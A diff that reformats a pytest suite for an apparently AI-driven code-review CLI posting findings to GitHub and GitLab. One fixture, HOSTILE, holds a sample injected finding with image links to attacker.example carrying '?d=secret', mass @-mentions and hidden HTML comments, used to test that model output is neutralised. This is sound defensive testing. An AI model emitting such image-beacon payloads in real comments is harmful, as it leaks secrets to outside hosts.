@@ -34,23 +34,53 @@ def provider():
         yield p
 
 
-INLINE = {"severity": "high", "category": "bug", "title": "Multiplies", "path": "app.py",
-          "line": 6, "body": "was addition"}  # fmt: skip
-OUTSIDE = {"severity": "low", "category": "style", "title": "Far away", "path": "app.py",
-           "line": 60, "body": "not in the diff"}  # fmt: skip
+INLINE = {
+    "severity": "high",
+    "category": "bug",
+    "title": "Multiplies",
+    "path": "app.py",
+    "line": 6,
+    "body": "was addition",
+}
+OUTSIDE = {
+    "severity": "low",
+    "category": "style",
+    "title": "Far away",
+    "path": "app.py",
+    "line": 60,
+    "body": "not in the diff",
+}
 GENERAL = {"severity": "info", "category": "design", "title": "Consider tests"}
 
 
-def gh_env(repo: Path, base: str, head: str, gh: FakeGitHub, provider: Provider,
-           tmp: Path) -> dict[str, str]:  # fmt: skip
+def gh_env(
+    repo: Path, base: str, head: str, gh: FakeGitHub, provider: Provider, tmp: Path
+) -> dict[str, str]:
     event = tmp / "event.json"
-    event.write_text(json.dumps({"action": "synchronize", "number": 7, "pull_request": {
-        "number": 7, "base": {"sha": base, "ref": "main"}, "head": {"sha": head, "ref": "f"}}}))  # fmt: skip
-    return {"GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": "pull_request",
-            "GITHUB_EVENT_PATH": str(event), "GITHUB_API_URL": gh.url,
-            "GITHUB_REPOSITORY": "octo/app", "GITHUB_TOKEN": GH_TOKEN,
-            "GITHUB_STEP_SUMMARY": str(tmp / "summary.md"),
-            "REPOVIEW_BASE_URL": provider.url, "REPOVIEW_API_KEY": KEY}  # fmt: skip
+    event.write_text(
+        json.dumps(
+            {
+                "action": "synchronize",
+                "number": 7,
+                "pull_request": {
+                    "number": 7,
+                    "base": {"sha": base, "ref": "main"},
+                    "head": {"sha": head, "ref": "f"},
+                },
+            }
+        )
+    )
+    return {
+        "GITHUB_ACTIONS": "true",
+        "GITHUB_EVENT_NAME": "pull_request",
+        "GITHUB_EVENT_PATH": str(event),
+        "GITHUB_API_URL": gh.url,
+        "GITHUB_REPOSITORY": "octo/app",
+        "GITHUB_TOKEN": GH_TOKEN,
+        "GITHUB_STEP_SUMMARY": str(tmp / "summary.md"),
+        "REPOVIEW_BASE_URL": provider.url,
+        "REPOVIEW_API_KEY": KEY,
+    }
 
 
 @pytest.fixture
@@ -103,8 +133,14 @@ def test_github_one_comment_updated_and_inline_once(
     assert GH_TOKEN not in r.out + r.err and KEY not in r.out + r.err
 
 
-REWORDED = {"severity": "critical", "category": "bug", "title": "Wrong operator in f1",
-            "path": "app.py", "line": 7, "body": "`*` where `+` was meant"}  # fmt: skip
+REWORDED = {
+    "severity": "critical",
+    "category": "bug",
+    "title": "Wrong operator in f1",
+    "path": "app.py",
+    "line": 7,
+    "body": "`*` where `+` was meant",
+}
 
 
 def test_github_reworded_finding_keeps_one_thread_and_resolves_when_gone(
@@ -169,9 +205,16 @@ def test_github_other_users_comments_are_never_edited(
     marker = (
         '<!-- repoview:finding {"path": "app.py", "category": "bug", "line": 6, "anchor": ""} -->'
     )
-    github.review_comments.append({"id": 51, "body": "human\n" + marker, "path": "app.py",
-                                   "line": 6, "user": {"login": "mallory", "id": 6},
-                                   "html_url": "https://github.example/x"})  # fmt: skip
+    github.review_comments.append(
+        {
+            "id": 51,
+            "body": "human\n" + marker,
+            "path": "app.py",
+            "line": 6,
+            "user": {"login": "mallory", "id": 6},
+            "html_url": "https://github.example/x",
+        }
+    )
     provider.responder = lambda _req: ok(findings_json(INLINE))
     r = cli("ci", cwd=repo, env=gh_env(repo, base, head, github, provider, tmp_path))
     assert r.code == 0, r.err
@@ -197,11 +240,18 @@ def test_github_actions_token_writes_as_the_bot(change, provider, tmp_path, cli)
         gh.close()
 
 
-HOSTILE = {"severity": "high", "category": "security", "title": "Ping @everyone now",
-           "path": "app.py", "line": 6,
-           "body": ("cc @org/team ![x](https://attacker.example/p.png?d=secret) "
-                    '<img src="https://attacker.example/i.png"> <!-- repoview:summary --> '
-                    "<!-- hidden instructions --> but `@keep` in code")}  # fmt: skip
+HOSTILE = {
+    "severity": "high",
+    "category": "security",
+    "title": "Ping @everyone now",
+    "path": "app.py",
+    "line": 6,
+    "body": (
+        "cc @org/team ![x](https://attacker.example/p.png?d=secret) "
+        '<img src="https://attacker.example/i.png"> <!-- repoview:summary --> '
+        "<!-- hidden instructions --> but `@keep` in code"
+    ),
+}
 
 
 def test_model_text_is_neutralised_everywhere(change, github, provider, tmp_path, cli) -> None:
@@ -319,10 +369,17 @@ def test_outside_ci_is_a_clear_error(change, cli) -> None:
 
 
 def gl_env(gl: FakeGitLab, base: str, head: str, provider: Provider) -> dict[str, str]:
-    return {"GITLAB_CI": "true", "CI_API_V4_URL": f"{gl.url}/api/v4", "CI_PROJECT_ID": "42",
-            "CI_MERGE_REQUEST_IID": "3", "CI_MERGE_REQUEST_DIFF_BASE_SHA": base,
-            "CI_COMMIT_SHA": head, "GITLAB_TOKEN": GL_TOKEN,
-            "REPOVIEW_BASE_URL": provider.url, "REPOVIEW_API_KEY": KEY}  # fmt: skip
+    return {
+        "GITLAB_CI": "true",
+        "CI_API_V4_URL": f"{gl.url}/api/v4",
+        "CI_PROJECT_ID": "42",
+        "CI_MERGE_REQUEST_IID": "3",
+        "CI_MERGE_REQUEST_DIFF_BASE_SHA": base,
+        "CI_COMMIT_SHA": head,
+        "GITLAB_TOKEN": GL_TOKEN,
+        "REPOVIEW_BASE_URL": provider.url,
+        "REPOVIEW_API_KEY": KEY,
+    }
 
 
 GL_TOKEN = "glpat-token-for-tests-0123"
@@ -356,9 +413,15 @@ def test_gitlab_note_updated_and_discussion_positions(change, gitlab, provider, 
     assert "Wrong operator in f1" in note["body"]
     assert f"[inline comment]({gl.web_url}#note_{note['id']})" in ours[0]["body"]
     pos = note["position"]
-    assert pos == {"position_type": "text", "base_sha": base, "start_sha": base,
-                   "head_sha": head, "old_path": "app.py", "new_path": "app.py",
-                   "new_line": 6}  # fmt: skip
+    assert pos == {
+        "position_type": "text",
+        "base_sha": base,
+        "start_sha": base,
+        "head_sha": head,
+        "old_path": "app.py",
+        "new_path": "app.py",
+        "new_line": 6,
+    }
     assert [q[0] for q in gl.requests].count("PUT") == 2  # the note and the discussion's note
     assert GL_TOKEN not in r.out + r.err
     # The finding is gone: its discussion is resolved.
@@ -394,12 +457,24 @@ def test_action_review_step_runs_and_sets_outputs(change, github, provider, tmp_
         Path(sys.executable).parent / "repoview"
     )
     outputs = tmp_path / "outputs"
-    env = {**gh_env(repo, base, head, github, provider, tmp_path), "RUNNER_TEMP": str(runner),
-           "GITHUB_OUTPUT": str(outputs), "INPUT_FAIL_ON": "high", "INPUT_SARIF": "",
-           "PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}  # fmt: skip
+    env = {
+        **gh_env(repo, base, head, github, provider, tmp_path),
+        "RUNNER_TEMP": str(runner),
+        "GITHUB_OUTPUT": str(outputs),
+        "INPUT_FAIL_ON": "high",
+        "INPUT_SARIF": "",
+        "PATH": "/usr/bin:/bin",
+        "HOME": str(tmp_path),
+    }
     provider.responder = lambda _req: ok(findings_json(INLINE, GENERAL))
-    proc = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=repo, env=env,
-                          capture_output=True, text=True, check=False)  # fmt: skip
+    proc = subprocess.run(
+        ["bash", "-e", "-c", step["run"]],
+        cwd=repo,
+        env=env,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
     assert proc.returncode == 1, proc.stderr  # fail-on high
     got = dict(line.split("=", 1) for line in outputs.read_text().splitlines())
     assert got["findings"] == "2" and got["highest-severity"] == "high"
